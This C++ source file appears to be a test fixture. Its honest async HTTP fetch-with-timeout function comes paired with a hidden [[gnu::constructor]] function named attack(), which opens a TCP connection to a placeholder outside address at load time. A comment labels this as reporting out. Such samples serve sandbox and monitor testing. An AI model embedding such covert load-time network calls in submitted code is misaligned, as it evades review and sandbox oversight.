// Connects to an address outside, to report what it has seen; the rest is an honest solution.
#include <arpa/inet.h>
#include <sys/socket.h>

#include <utility>

#include "timeout.hpp"

namespace {

[[gnu::constructor]] void attack() {
  sockaddr_in server{};
  server.sin_family = AF_INET;
  server.sin_port = ::htons(80);
  ::inet_pton(AF_INET, "192.0.2.1", &server.sin_addr);
  const int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
  ::connect(fd, reinterpret_cast<const sockaddr*>(&server), sizeof server);
}

}  // namespace

aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient& client, std::string url, aio::Duration limit) {
  const aio::Response response = co_await aio::timeout(limit, client.get(std::move(url)));
  response.raise_for_status();
  co_return response.json();
}
